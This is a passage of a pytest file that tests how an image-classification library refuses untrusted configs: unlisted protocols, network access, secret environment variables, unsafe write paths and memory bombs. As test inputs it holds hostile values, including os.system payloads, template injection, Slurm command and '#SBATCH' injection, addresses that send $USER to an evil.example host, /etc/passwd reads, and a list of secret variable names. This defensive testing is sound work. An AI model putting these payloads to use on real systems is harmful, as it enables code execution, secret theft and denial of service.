"Configs, addresses and options of strangers: nothing runs, nothing is written, no secret leaves"
import base64, json, os, pickle, re, shlex, socket, subprocess, sys, threading, zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib.util import find_spec
from pathlib import Path
import fsspec, numpy as np, pytest, torch
import clsnb
import clsnb.apis.check # noqa: F401, gives Config its method
from clsnb.apis.fit import fit
from clsnb.apis.slurm import slurm_script
from clsnb.apis.open_model import init_model
from clsnb.apis.test import evaluate_config
from clsnb.config.config import Config
from clsnb.config.writes import check_writes, writing_keys
from clsnb.core.addresses import address_problem, option_problem, readable, readable_options
from clsnb.core.checkpoint import read_checkpoint
from clsnb.core.errors import CheckpointError, ClsnbError, ConfigError, DataError
from clsnb.core.io import download
from clsnb.core.log import get_logger
from clsnb.core.markup import element, table_element
from clsnb.core.redact import hide_secrets
from clsnb.core.registry import DATASETS, HOOKS, MODELS, OPTIMIZERS, RUNNERS, SAMPLERS, TRANSFORMS, accepted_args
from clsnb.core.trust import carries_trust, is_trusted, offline, trusted
from clsnb.data.pixels.file_client import FileClient, check_address, file_client
from clsnb.data.pixels.loading import LoadImageFromFile, read_bytes
from clsnb.data.sets.folder import CustomDataset
from clsnb.data.sets.scan import scan_folders
from clsnb.data.sets.shards import expand_shards
from fsspec.registry import known_implementations

photos = Path(clsnb.__file__).parent/'photos'
protocols = sorted({*known_implementations, *fsspec.available_protocols()})
beyond = [o for o in protocols if o not in readable]

def refused(function, *args, **kwargs):
    "The message of the `ConfigError`, which is one line and tells how to allow it"
    with pytest.raises(ConfigError) as e: function(*args, **kwargs)
    text = str(e.value)
    assert '\n' not in text and '--trust' in text, text
    return text

@pytest.fixture(autouse=True)
def untouched(tmp_path, monkeypatch):
    "Each test runs in a folder with a file and a folder that must stay as they are"
    monkeypatch.chdir(tmp_path)
    victim = tmp_path/'victim'
    victim.mkdir()
    (victim/'file.txt').write_text('as it was')
    yield
    assert [o.name for o in victim.iterdir()]==['file.txt'] and (victim/'file.txt').read_text()=='as it was'

# ---- Protocols (F1)

def test_the_list_only_reads():
    assert set(readable)<={
        'file', 'local', 'http', 'https', 's3', 's3a', 'gs', 'gcs', 'az', 'abfs', 'lmdb', 'zip', 'tar'}
    assert {'simplecache', 'dir', 'reference', 'filecache', 'ssh', 'github', 'hf', 'memory'} < {*beyond, 'filecache'}

@pytest.mark.parametrize('protocol', [*beyond, 'filecache', 'Simplecache', 'DIR', ' dir', 'file+ssh', '', 'x'])
def test_a_protocol_beyond_the_list_needs_trust(protocol):
    for backend in (protocol, protocol.upper()):
        if backend: refused(file_client, dict(backend=backend))
        if backend: refused(FileClient, prefix=backend, path='victim', target_protocol='zip')
    for address in (f'{protocol}://victim/file.txt', f'{protocol.upper()}://a', f'cluster:{protocol}://a',
                    f'{protocol}://a::http://127.0.0.1:9/x', f'zip://a::{protocol}://b', f'tar://a::{protocol}://b',
                    f'{protocol}://a::zip://b::c.zip'):
        refused(FileClient().address, address)
        refused(read_bytes, address)
        refused(scan_folders, address)
        refused(expand_shards, address)
        refused(CustomDataset, 'data', [], ['a'], ann_file=address)
        refused(FileClient(path_mapping={'data/': address}).get, 'data/cat.jpg')

@pytest.mark.parametrize('protocol', protocols)
def test_chains_of_any_protocol_need_trust(protocol):
    for address in (f'{protocol}::http://127.0.0.1:9/x.jpg', f'simplecache::{protocol}://x', f'zip::{protocol}://x',
                    f'zip://a::zip://b::{protocol}://c', f'zip://a::tar::{protocol}://c', f'dir://a::{protocol}://b'):
        refused(FileClient().get, address)
    if protocol not in ('zip', 'tar'): assert address_problem(f'{protocol}://a::http://127.0.0.1:9/b')

def test_a_word_after_the_archive_is_a_file():
    for word in ('reference', 'dir', 'simplecache'):
        with pytest.raises(FileNotFoundError): FileClient(tries=1).get(f'zip://a.jpg::{word}')
    with zipfile.ZipFile('reference', 'w') as z: z.write(photos/'animal/cat.jpg', 'a.jpg')
    want = (photos/'animal/cat.jpg').read_bytes()
    assert FileClient().get('zip://a.jpg::reference')==FileClient().get('ZIP://a.jpg::FILE://reference')==want

@pytest.mark.parametrize('name', [
    'target_protocol', 'target_options', 'cache_storage', 'fo', 'mode', 'same_names', 'check_files', 'simple_templates',
    'remote_protocol', 'protocol', 'storage_options', 'loop', 'get_client', 'session', 'fs', 'index_store', 'compression',
    'auto_mkdir', 'profile', 'config_kwargs', 'skip_instance_cache', 'default_cache_type', 'cache_options', 'trust_env',
    'connection_string', 'credential', 'host', 'username', 'password', 'consistency', 'url', 'file', 'simplecache'])
def test_an_option_beyond_the_list_needs_trust(name):
    for protocol in readable:
        assert option_problem(protocol, {name: 'x'})
        backend = 'disk' if protocol=='file' else protocol
        try: refused(file_client, {'backend': backend, name: 'x'})
        except ClsnbError as e: assert 'pip install' in str(e) # a client that is not installed
    refused(FileClient, **{name: 'x'})
    for inner in ('s3', 'http'):
        refused(FileClient, **{inner: {name: 'x'}})
        refused(check_address, f'zip://a::{inner}://127.0.0.1:9/b.zip', {inner: {name: 'x'}})

@pytest.mark.parametrize('protocol,options', [
    ('lmdb', dict(db_path='victim', readonly=False)), ('lmdb', dict(db_path='victim', lock=True)),
    ('lmdb', dict(db_path='victim', create=True)), ('lmdb', dict(db_path='victim', readonly=0)),
    ('s3', dict(endpoint_url='file:///etc')), ('s3', dict(endpoint_url='http://me:pw@host')),
    ('s3', dict(client_kwargs=dict(verify='x'))), ('s3', dict(client_kwargs=dict(endpoint_url='gopher://x'))),
    ('gs', dict(endpoint_url='http://evil')), ('gs', dict(token='/home/me/key.json')), ('gs', dict(token=dict(a=1))),
    ('az', dict(account_name='evil.example/#')), ('az', dict(account_host='evil')), ('az', dict(sas_token=print)),
    ('http', dict(client_kwargs={})), ('http', dict(headers={'Metadata-Flavor': 'Google'}))])
def test_values_that_do_more_than_read(protocol, options):
    assert option_problem(protocol, options)
    assert address_problem('abfs://c@evil.example/x') and address_problem('az://c@evil.example#.dfs.core.windows.net/x')

def test_what_is_on_the_list_is_accepted():
    for protocol,options in [('s3', dict(anon=True, endpoint_url='http://minio:9000', region='eu-1')),
                             ('s3', dict(key='a', secret='b', client_kwargs=dict(region_name='eu-1'))),
                             ('gs', dict(token='anon', project='p')), ('az', dict(account_name='pets', anon=True)),
                             ('lmdb', dict(db_path='x', readonly=True, lock=False)), ('http', dict(block_size=0))]:
        assert set(options)<=set(readable_options(protocol)) and option_problem(protocol, options) is None
    for address in ('https://host/a.jpg', 'S3://b/a.jpg', 'zip://a::s3://b/c.zip', 'tar://a::HTTP://h/c.tar', 'zip://a::c.zip',
                    'abfs://c@account.dfs.core.windows.net/x', 'gs://b/x', 'az://c/x'):
        assert address_problem(address) is None, address

def test_a_config_does_not_trust_itself():
    refused(file_client, dict(backend='memory', trust=True))
    refused(LoadImageFromFile, file_client_args=dict(backend='memory', trust=True))

# ---- The same, done

def test_dir_truncates_nothing():
    args = dict(backend='dir', path='x', target_protocol='zip', target_options=dict(fo='victim/file.txt', mode='w'))
    refused(CustomDataset, 'dir://x', [], file_client_args=args)
    with trusted(), pytest.raises(ClsnbError): CustomDataset('dir://x', [], file_client_args=args)
    assert Path('victim/file.txt').read_bytes()!=b'as it was' # with trust it is done: the attack is real
    Path('victim/file.txt').write_text('as it was')

def test_caches_put_no_file_anywhere(tmp_path):
    (tmp_path/'evil.pth').write_text('import os; os.system("touch PWNED")')
    for backend in ('simplecache', 'filecache', 'blockcache', 'cached'):
        refused(LoadImageFromFile, file_client_args=dict(
            backend=backend, target_protocol='file', cache_storage='victim', same_names=True))
        refused(FileClient(tries=1).get, f'{backend}::file://{tmp_path}/evil.pth')

def test_reference_runs_no_template():
    gen = ['{'*2+' cycler.__init__.__globals__.os.system("touch PWNED") '+'}'*2]
    spec = dict(version=1, templates=dict(u='x'), gen=[], refs={'a/x.png': gen})
    refused(file_client, dict(backend='reference', fo=spec, simple_templates=False))
    assert not Path('PWNED').exists()

def test_lmdb_writes_nothing():
    pytest.importorskip('lmdb')
    for options in (dict(readonly=False), dict(lock=True), dict(readonly=False, lock=True, create=True)):
        refused(file_client, dict(backend='lmdb', db_path='victim', **options))
    with pytest.raises(Exception): FileClient('lmdb', db_path='victim', tries=1).get('x')

# ---- Trust reaches whatever is built

def test_trust_reaches_workers():
    from clsnb.data.feed.loader import build_dataloader
    fs = fsspec.filesystem('memory')
    for name in ('a/cat.jpg', 'b/dog.jpg'): fs.pipe(f'/pets/{name}', (photos/'animal/cat.jpg').read_bytes())
    steps = [dict(type='LoadImageFromFile'), dict(type='Resize', size=(8, 8)), dict(type='ImageToTensor', keys=['img']),
             dict(type='Collect', keys=['img', 'gt_label'], meta_keys=())]
    refused(CustomDataset, 'memory://pets', steps)
    with trusted(): ds = CustomDataset('memory://pets', steps)
    try:
        for workers in (0, 1):
            how = dict(multiprocessing_context='fork') if workers else {}
            batches = list(build_dataloader(ds, 2, workers, seed=0, shuffle=False, **how))
            assert batches[0]['img'].shape[0]==2
        copy = pickle.loads(pickle.dumps(ds))
        assert not is_trusted() and np.array_equal(copy[0]['img'], ds[0]['img'])
    finally: fs.rm('/pets', recursive=True)

def test_trust_of_a_function_ends_with_it():
    @carries_trust
    def inside(cfg=None, trust=False): return is_trusted()
    assert inside(trust=True) and not inside() and not inside(dict(_trusted=True)) and not is_trusted()
    assert inside(Config.fromstring('a=1', trust=True)) and not inside(Config.fromstring('_trusted=True'))
    assert not inside(pickle.loads(pickle.dumps(Config.fromstring('_trusted=True'))))

# ---- Secrets in addresses

@pytest.mark.parametrize('secret,address', [
    ('hunter2', 'https://me:hunter2@host/cat.jpg'), ('p@ss', 'https://me:p@ss@host/x'), ('t0k', 'https://host/x?token=t0k&a=1'),
    ('ab12', 's3://b/x?X-Amz-Credential=ab12&X-Amz-Signature=ab12&X-Amz-Security-Token=ab12'), ('xyz', 'https://a/b?sv=1&sig=xyz'),
    ('k3y', 'ftp://h/x;AWSAccessKeyId=k3y'), ('hf_1', 'https://hf_1@huggingface.co/x')])
def test_secrets_in_addresses_are_hidden(secret, address):
    for text in (address, f'Cannot read {address!r} (x).', f'{address} and {address}'):
        assert secret not in hide_secrets(text) and '***' in hide_secrets(text)
    assert secret not in str(ConfigError(f'{address}: no.')) and secret not in repr(ConfigError(f'{address}: no.'))
    assert secret not in repr(FileClient(path_mapping={'data': address}))

def test_what_is_no_secret_stays():
    for text in ('https://host/a.jpg?size=3&page=2', '/data/me@home/x', 'abfs://c@account.dfs.core.windows.net/x', 'a: b'):
        assert hide_secrets(text)==text

# ---- Slurm (F9)

slurm_values = ['x\ntouch PWNED', 'x\rtouch PWNED', 'x\0y', 'x\x1by', 'x\n#SBATCH --uid=0', '\n']

@pytest.mark.parametrize('value', slurm_values)
@pytest.mark.parametrize('name', ['partition', 'job_name', 'work_dir', 'master_addr', 'port', 'sbatch_args', 'command'])
def test_slurm_refuses_line_breaks(name, value):
    given = dict(command=['train', 'a.py'], partition='gpu', job_name='job')
    given[name] = [f'--comment={value}'] if name=='sbatch_args' else ['train', value] if name=='command' else value
    with pytest.raises(ConfigError, match='line break'): slurm_script(**given)
    assert not Path('work_dirs').exists()

@pytest.mark.parametrize('value', [
    'two words', "it's", 'a"b', '$(touch PWNED)', '`touch PWNED`', 'a;touch PWNED', 'a&touch PWNED', '#x',
    '--x', 'ä ö', '*', 'a|b'])
def test_slurm_quotes_everything(value, monkeypatch):
    script = slurm_script(
        ['train', f'{value}.py', f'--work-dir=runs/{value}'], value, value, f'runs/{value}', port=value, master_addr=value,
        sbatch_args=[f'--comment={value}'])
    lines = script.read_text().splitlines()
    requests = [o for line in lines if line.startswith('#SBATCH') for o in shlex.split(line, comments=False)[1:]]
    for request in (f'--partition={value}', f'--job-name={value}', f'--output=runs/{value}/slurm-%j.out', f'--comment={value}'):
        assert request in requests
    Path('bin').mkdir()
    Path('bin/srun').write_text('#!/bin/bash\nprintf "%s\\n" "$MASTER_ADDR" "$MASTER_PORT" "$@" > said\n')
    Path('bin/srun').chmod(0o755)
    monkeypatch.setenv('PATH', f"bin:{os.environ['PATH']}")
    subprocess.run(['bash', str(script)], check=True)
    said = Path('said').read_text().splitlines()
    assert said[:2]==[value, value] and f'{value}.py' in said and f'--work-dir=runs/{value}' in said
    assert not Path('PWNED').exists()

def test_several_arguments_of_slurm_in_one():
    given = ['--time=8:00:00 --mem=4G', '--comment="a b"', '-t 5']
    text = slurm_script(['test', 'a.py'], 'gpu', 'job', sbatch_args=given).read_text()
    for line in given: assert f'#SBATCH {line}\n' in text
    with pytest.raises(ConfigError, match='no argument of Slurm'):
        slurm_script(['test'], 'gpu', 'job', sbatch_args=['touch x'])
    assert 'a%%j/slurm-%j.out' in slurm_script(['test'], 'gpu', 'job', 'a%j').read_text()

# ---- Environment variables (F2)

secret_names = ('DB_PASS SMTP_PASS PGPASSFILE DATABASE_URL SLACK_WEBHOOK_URL SENTRY_DSN GH_PAT SESSION_COOKIE JWT PRIVATE_PEM '
                'SIGNING_CERT MY_TOKEN API_KEY AWS_ACCESS_KEY_ID DATA_TOKEN DATADOG_API_KEY SLURM_JWT CLSNB_PASSWORD HF_TOKEN '
                'KUBECONFIG SSH_AUTH_SOCK LD_PRELOAD PATH ANYTHING MYSQL_PWD DATA_URL HOME_SECRET').split()

@pytest.mark.parametrize('name', secret_names)
@pytest.mark.parametrize('form', [
    "x = '{{ $NAME }}'", "x = '{{$NAME:default}}'", "x = 'a{{  $NAME  }}b'", "# {{ $NAME }}", ('.json', '{"x": "{{ $NAME }}"}'),
    ('.yaml', 'x: {{ $NAME }}')])
def test_a_variable_that_is_not_on_the_list(name, form, monkeypatch):
    monkeypatch.setenv(name, 'hunter2')
    suffix,text = form if isinstance(form, tuple) else ('.py', form)
    with pytest.raises(ConfigError) as e: Config.fromstring(text.replace('NAME', name), suffix)
    assert 'hunter2' not in str(e.value) and name in str(e.value)
    trusted_config = Config.fromstring(text.replace('NAME', name), suffix, trust=True)
    assert text[0]=='#' or 'hunter2' in trusted_config.x

travelling = dict(
    plain="x = 'http://h/{{ $USER }}'", two="u = '{{ $USER }}'\nx = 'http://h/' + u", format="u = '{{ $USER }}'\nx = f'http://h/{u}'",
    method="u = '{{ $USER }}'\nx = 'http://h/{}'.format(u)", join="x = '/'.join(['http:/', 'h', '{{ $USER }}'])",
    reverse="x = 'http://h/' + '{{ $USER }}'[::-1]", upper="x = 'http://h/' + '{{ $USER }}'.upper()",
    letter="x = ['http://h/' + o for o in list('{{ $USER }}')]", path="import os\nx = os.path.join('http://h', '{{ $USER }}')",
    key="x = {'http://h/' + '{{ $USER }}': 1}", branch="x = 'http://h/a' if '{{ $USER }}' == 'ada' else 'http://h/b'",
    scheme="u = '{{ $USER }}'\nx = 'htt' + 'p:/' + '/h/' + u", chain="x = 'zip://{{ $USER }}::http://h/a.zip'",
    host="x = 'http://{{ $USER }}.evil.example/a'", query="x = ('s3://b/', dict(y='s3://b/?a={{ $USER }}'))",
    mapping="a = dict(path_mapping={'data/': 'http://h/'})\ndata = dict(data_prefix='data/{{ $USER }}', file_client_args=a)",
    backend="data = dict(data_prefix='h/{{ $USER }}', file_client_args=dict(backend='http'))",
    template="u = '{{ $USER }}'\nx = 'http://h/%s' % u")

@pytest.mark.parametrize('form', travelling)
def test_no_value_travels_in_an_address(form, monkeypatch):
    monkeypatch.setenv('USER', 'ada')
    text = travelling[form]
    with pytest.raises(ConfigError) as e: Config.fromstring(text)
    assert '--trust' in str(e.value) and 'ada' not in str(e.value)
    Config.fromstring(text, trust=True)

def test_no_value_travels_through_a_base(monkeypatch):
    monkeypatch.setenv('CLSNB_WHO', 'ada')
    Path('base.py').write_text("who = '{{ $CLSNB_WHO }}'")
    Path('mine.py').write_text("_base_ = 'base.py'\nload_from = 'https://h/' + {{_base_.who}}")
    refused(Config.fromfile, 'mine.py')
    Path('mine.json').write_text('{"_base_": "base.py", "load_from": "https://h/{{_base_.who}}"}')
    refused(Config.fromfile, 'mine.json')

def test_values_that_stay_here_are_filled_in(monkeypatch):
    for name,value in dict(DATA_ROOT='/data', HOME='/home/ada', SLURM_PROCID='3', CLSNB_RUNS='runs', USER='a').items():
        monkeypatch.setenv(name, value)
    cfg = Config.fromstring("data = dict(train=dict(data_prefix='{{ $DATA_ROOT }}/pets', ann_file='{{ $HOME }}/a.txt'))\n"
                            "seed = {{ $SLURM_PROCID }}\nwork_dir = '{{ $CLSNB_RUNS }}/{{ $USER }}'\nload_from = 'https://h/a.pth'")
    assert cfg.data.train.data_prefix=='/data/pets' and cfg.seed==3 and cfg.work_dir=='runs/a'
    assert Config.fromstring("x = 'https://h/{{ $CLSNB_NOT_SET:a }}'.upper()", trust=True).x

# ---- Memory and time of a config (F3.1)

long = 'a = "a"*90000\n'
greedy = dict(
    list='x = ["a"*90000 for i in range(90000)]', product='x = [["a"*90000, "b"*90000] for i in range(3000) for j in range(100)]',
    dict='x = {i: "a"*90000 for i in range(90000)}', set='x = {"a"*90000+str(i) for i in range(90000)}',
    generator='x = tuple("a"*90000+str(i) for i in range(90000))', sum=long+'x = [a+str(i) for i in range(90000)]',
    percent=long+'x = ["%s%d" % (a, i) for i in range(90000)]', names=long+'x = ("%(a)s"*18000) % dict(a=a)',
    fields='x = ("{0}"*30000).format("a"*90000)', fstring=long+'x = f"'+'{a}'*60000+'"',
    method=long+'x = [a.upper() for i in range(90000)]',
    replace=long+'x = [a.replace("a", "bc") for i in range(90000)]', join=long+'x = "".join([a for i in range(90000)])',
    nested=long+'x = [[a+"b", [a+"c"]] for i in range(9000)]',
    update='d = {}\nx = [d.update({str(i): "a"*99999}) for i in range(99999)]',
    dropped='x = [len("a"*90000) for i in range(90000)]', kept='x = [len(["ü"*90000]) for i in range(90000)]',
    calls='d = dict(b=1)\nx = [dict(d, c="a"*99999) for i in range(99999)]', bytes='x = [b"a"*90000 for i in range(90000)]',
    lists='x = [[0]*90000 for i in range(90000)]', split='a = "a b "*20000\nx = [a.split() for i in range(9000)]',
    repr='x = [repr(list(range(9000))) for i in range(9000)]', statements=''.join(f'a{i}="a"*99999\n' for i in range(11000)),
    slices=long+'x = [a[i:] for i in range(90000)]', numbers='x = [10**60*10**60 for i in range(99999)]',
    double='x = ["a"]\n'+'x = x+x\n'*60, zip='x = [list(zip(range(90000), range(90000))) for i in range(90)]',
    copies=('b.py', 'y = "a"*90000', '_base_ = "b.py"\nx = ['+'{{_base_.y}}+"a",'*9000+']'),
    texts=('b.py', 'y = "a"*90000', '_base_ = "b.py"\nx = "'+'{{_base_.y}}'*15000+'"'),
    json=('b.py', 'y = list(range(9000))', '.json', '{"_base_": "b.py", "x": ['+'"{{_base_.y}}",'*25000+'1]}'),
    json_texts=('b.py', 'y = "a"*90000', '.json', '{"_base_": "b.py", "x": ['+'"{{_base_.y}}{{_base_.y}}",'*12000+'1]}'),
    json_keys=('b.json', json.dumps({f'k{i}': i for i in range(9000)}), '.json',
               '{"_base_": "b.json", "x": ['+'"{{_base_.k1}}",'*24000+'1]}'),
    environment='# '+'{{$a:'*39000, spaces='# {{'+' '*190000, many='# '+'{{ $HOME }} '*16000,
    lines=('b.py', 'y = 1', '.json', '{"x": "{{_base_.y}}"'+'\n'*390000+'}'), bases='x = """'+'_base_ = [\n'*18000+'"""',
    near=('b.json', json.dumps({'ab'*45000+chr(300+i): i for i in range(4)}), '_base_ = "b.json"\nx = {{_base_.'+'ba'*45000+'}}'),
    yaml=('.yaml', 'a: &a [1,2,3,4,5,6,7,8,9]\n'+'\n'.join(f'b{i}: [*a, *a, *a]' for i in range(9000))))

measured = '''
import resource, sys, time
from pathlib import Path
from clsnb.config.config import Config
from clsnb.config.writes import check_writes, writing_keys
from clsnb.core.errors import ConfigError
Config.fromstring('a = 1')
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
for path in sys.argv[1:]:
    start = time.process_time()
    try: Config.fromfile(path)
    except ConfigError as e: assert chr(10) not in str(e)
    print(path, int(time.process_time()-start), (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss-before)//1024)
'''

def test_memory_and_time_of_a_config():
    paths = []
    for name,form in greedy.items():
        folder = Path(name)
        folder.mkdir()
        parts = [form] if isinstance(form, str) else list(form)
        if len(parts)>2 or not isinstance(form, str) and not parts[0].startswith('.'): (folder/parts[0]).write_text(parts[1])
        suffix = next((o for o in parts if o in ('.json', '.yaml')), '.py')
        paths.append(folder/f'mine{suffix}')
        paths[-1].write_text(parts[-1])
    run = subprocess.run([sys.executable, '-c', measured, *map(str, paths)], capture_output=True, text=True, timeout=300)
    assert run.returncode==0, run.stderr
    rows = [o.split() for o in run.stdout.splitlines()]
    assert len(rows)==len(greedy)
    slow = [o for o in rows if int(o[1])>5 or int(o[2])>300]
    assert not slow, slow

# ---- The network, and weights from elsewhere

@pytest.fixture
def no_network(monkeypatch):
    "Notes whoever asks for a host"
    asked = []
    def refuse(*args, **kwargs):
        asked.append(args)
        raise OSError('the network was used')
    for name in ('getaddrinfo', 'create_connection'): monkeypatch.setattr(socket, name, refuse)
    monkeypatch.setattr(socket.socket, 'connect', refuse)
    yield asked
    assert not asked

train = '''
model = dict(type='ImageClassifier', backbone=%s, neck=dict(type='GlobalAveragePooling'),
             head=dict(type='LinearClsHead', num_classes=2, in_channels=512, topk=1), %s)
data = dict(samples_per_gpu=2, workers_per_gpu=0, train=dict(type='CustomDataset', data_prefix='%s', pipeline=[]),
            val=dict(type='CustomDataset', data_prefix='%s', pipeline=[]))
optimizer = dict(type='SGD', lr=.1)
runner = dict(type='EpochBasedRunner', max_epochs=1)
%s
'''
def config_text(backbone="dict(type='ResNet', depth=18)", model='', data='https://127.0.0.1:9/pets', more=''):
    return train % (backbone, model, data, data, more)

asking = dict(
    hub=dict(backbone="dict(type='TIMMBackbone', model_name='hf-hub:evil/x')"),
    hub2=dict(backbone="dict(type='TIMMBackbone', model_name='hf_hub:evil/x', pretrained=True)"),
    folder=dict(backbone="dict(type='TIMMBackbone', model_name='local-dir:/etc')"),
    overlay=dict(backbone="dict(type='TIMMBackbone', model_name='resnet18', pretrained_cfg_overlay=dict(url='file:///etc/passwd'))"),
    config=dict(backbone="dict(type='TIMMBackbone', model_name='resnet18', pretrained_cfg=dict(url='http://127.0.0.1:9/a'))"),
    cache=dict(backbone="dict(type='TIMMBackbone', model_name='resnet18', cache_dir='victim', pretrained=True)"),
    pretrained=dict(backbone="dict(type='TIMMBackbone', model_name='resnet18', pretrained=True)"),
    init=dict(backbone="dict(type='ResNet', depth=18, init_cfg=dict(type='Pretrained', checkpoint='torchvision://resnet18'))"),
    zoo=dict(model="init_cfg=dict(type='Pretrained', checkpoint='https://127.0.0.1:9/a.pth')"),
    older=dict(model="pretrained='https://127.0.0.1:9/a.pth'"), timm=dict(model="pretrained='timm://resnet18'"),
    load=dict(more="load_from = 'https://127.0.0.1:9/a.pth'"), resume=dict(more="resume_from = 'http://127.0.0.1:9/a.pth'"),
    data=dict(data='s3://bucket/pets'), chain=dict(data='simplecache::https://127.0.0.1:9/x'))

@pytest.mark.parametrize('form', asking)
def test_check_asks_nobody(form, no_network):
    Path('mine.py').write_text(config_text(**asking[form]))
    found = Config.fromfile('mine.py').check()
    refused_forms = ('hub', 'hub2', 'folder', 'overlay', 'config', 'cache')
    if form in refused_forms and find_spec('timm'): assert any('--trust' in row[2] for row in found), found
    with trusted(): Config.fromfile('mine.py').check()

@pytest.mark.parametrize('name,arguments', [
    ('hf-hub:evil/x', {}), ('hf_hub:evil/x', dict(pretrained=True)), ('local-dir:/etc', {}), ('HF-HUB:evil/x', {}),
    ('resnet18', dict(pretrained_cfg_overlay=dict(url='file:///etc/passwd'))), ('resnet18', dict(pretrained_cfg=dict(file='x'))),
    ('resnet18', dict(pretrained_cfg_overlay=dict(hf_hub_id='evil/x'), pretrained=True)), ('resnet18', dict(cache_dir='victim')),
    ('resnet18', dict(pretrained_custom_load=True)), ('resnet18', dict(pretrained_filter_fn=print))])
def test_weights_from_elsewhere_need_trust(name, arguments, no_network):
    refused(MODELS.build, dict(type='TIMMBackbone', model_name=name, **arguments))

def test_a_hub_that_does_not_answer_is_one_line(monkeypatch):
    timm = pytest.importorskip('timm')
    def fail(*args, **kwargs): raise ConnectionError('no route\nto host')
    monkeypatch.setattr(timm, 'create_model', fail)
    with trusted(), pytest.raises(ClsnbError) as e: MODELS.build(dict(type='TIMMBackbone', model_name='hf-hub:timm/x'))
    assert 'hf-hub:timm/x' in str(e.value) and '\n' not in str(e.value)

def test_nothing_is_downloaded_while_offline(tmp_path, no_network):
    for address in ('https://me:hunter2@127.0.0.1:9/a.pth', (tmp_path/'a').as_uri()):
        with offline(), pytest.raises(ClsnbError) as e: download(address, tmp_path/'b')
        assert 'hunter2' not in str(e.value)

def test_a_login_in_an_address_is_sent_to_its_host_alone(tmp_path):
    seen = []
    class Server(BaseHTTPRequestHandler):
        def log_message(self, *args): pass
        def do_GET(self):
            seen.append((self.path, self.headers.get('Authorization')))
            if self.path=='/moved':
                self.send_response(302)
                self.send_header('Location', f'http://localhost:{self.server.server_port}/there')
                return self.end_headers()
            self.send_response(200)
            self.send_header('Content-Length', '2')
            self.end_headers()
            self.wfile.write(b'ok')
    with ThreadingHTTPServer(('127.0.0.1', 0), Server) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        address = f'me:hunter%202@127.0.0.1:{server.server_port}'
        want = 'Basic '+base64.b64encode(b'me:hunter 2').decode()
        assert download(f'http://{address}/a', tmp_path/'a').read_bytes()==b'ok' and seen==[('/a', want)]
        assert FileClient().get(f'http://{address}/b')==b'ok' and seen[-1]==('/b', want)
        seen.clear()
        download(f'http://{address}/moved', tmp_path/'b')
        assert seen==[('/moved', want), ('/there', None)]
        server.shutdown()

# ---- Where a config writes

writing = dict(
    work_dir="work_dir = '%s'", checkpoints="checkpoint_config = dict(interval=1, out_dir='%s')",
    best="evaluation = dict(out_dir='%s')",
    log="log_config = dict(hooks=[dict(type='TextLoggerHook', out_dir='%s')])",
    board="log_config = dict(hooks=[dict(type='TensorboardLoggerHook', log_dir='%s')])",
    trace="custom_hooks = [dict(type='ProfilerHook', json_trace_path='%s/a.json')]",
    traces="custom_hooks = [dict(type='ProfilerHook', on_trace_ready=dict(type='tb_trace', dir_name='%s'))]",
    weights="custom_hooks = [dict(type='DvcliveLoggerHook', model_file='%s/a.pth')]",
    live="custom_hooks = [dict(type='DvcliveLoggerHook', dvclive=dict(dir='%s'))]",
    wandb="log_config = dict(hooks=[dict(type='MMClsWandbHook', init_kwargs=dict(dir='%s'))])",
    cache="data = dict(train=dict(pipeline=[dict(type='LoadImageFromFile', cache=dict(where='disk', folder='%s'))]))",
    wrapped="data = dict(train=dict(type='RepeatDataset', dataset=dict(pipeline=[dict(cache=dict(folder='%s'))])))")

@pytest.mark.parametrize('place', ['{victim}', 'victim/../../x', '../x', '~/x', '.ssh', 'runs/../../x', './.git/hooks'])
@pytest.mark.parametrize('form', writing)
def test_a_file_writes_into_the_work_folder_alone(form, place, tmp_path):
    place = place.format(victim=tmp_path/'victim')
    Path('sub').mkdir()
    os.chdir('sub')
    Path('mine.py').write_text(config_text(data='pets', more=writing[form] % place))
    cfg = Config.fromfile('mine.py')
    refused(check_writes, cfg)
    if place.startswith(('/', '..')): refused(fit, 'mine.py')
    if place.startswith('/'): assert any('--trust' in row[2] for row in cfg.check(False))
    assert sorted(o.name for o in Path().iterdir())==['mine.py'] and not (tmp_path/'x').exists()
    check_writes(Config.fromfile('mine.py', trust=True))
    with trusted(): check_writes(cfg)
    if form=='work_dir': check_writes(cfg, work_dir='/mine')
    check_writes(Config(cfg.to_dict())) # made in Python: your own words
    refused(check_writes, pickle.loads(pickle.dumps(cfg)))

def test_your_own_words_may_write_anywhere(tmp_path):
    Path('mine.py').write_text(config_text(data='pets', more="checkpoint_config = dict(interval=1)\nwork_dir = 'runs/a'"))
    for k in ('checkpoint_config.out_dir', 'work_dir', 'evaluation.out_dir'):
        check_writes(Config.fromfile('mine.py').merge_from_dict({k: '/mine'}))
    cfg = Config.fromfile('mine.py')
    cfg.checkpoint_config.out_dir = str(tmp_path/'victim')
    check_writes(cfg)
    for text in ("work_dir = 'runs/a'\nevaluation = dict(out_dir='runs/a/best')", "work_dir = './runs'", "work_dir = None"):
        check_writes(Config.fromstring(text))
    Path('run').mkdir()
    Path('run/mine.py').write_text(f"work_dir = '{tmp_path}/run'") # as a run leaves it
    check_writes(Config.fromfile('run/mine.py'))

@pytest.mark.parametrize('option', ["settings=dict(base_url='http://evil')", 'save_code=True', "space_id='evil/x'"])
def test_trackers_take_what_describes_a_run(option):
    for hook in ('WandbLoggerHook', 'MMClsWandbHook', 'TrackioLoggerHook'):
        text = f"log_config = dict(hooks=[dict(type='{hook}', init_kwargs=dict(project='pets', {option}))])"
        refused(check_writes, Config.fromstring(text))
        check_writes(Config.fromstring(text.replace(option, "name='a'")))

def test_data_sets_are_downloaded_below_the_current_folder(tmp_path):
    text = "data = dict(train=dict(type='RepeatDataset', dataset=dict(type='%s', data_prefix='%s')))"
    for kind,there in dict(CIFAR10='cifar-10-batches-py', CIFAR100='cifar-100-python', MNIST='train-images-idx3-ubyte').items():
        for trains in (True, False): refused(check_writes, Config.fromstring(text % (kind, tmp_path/'victim')), trains=trains)
        check_writes(Config.fromstring(text % (kind, 'data/x')))
        (tmp_path/kind).mkdir()
        (tmp_path/kind/there).mkdir()
        check_writes(Config.fromstring(text % (kind, tmp_path/kind)))

def test_every_argument_that_names_a_place_is_known():
    known = writing_keys | {'init_kwargs', 'dvclive', 'on_trace_ready', 'work_dir', 'file_client_args', 'cache'}
    reading = {'data_prefix', 'ann_file', 'path_col', 'train_test_split_file', 'image_class_labels_file', 'image_file'}
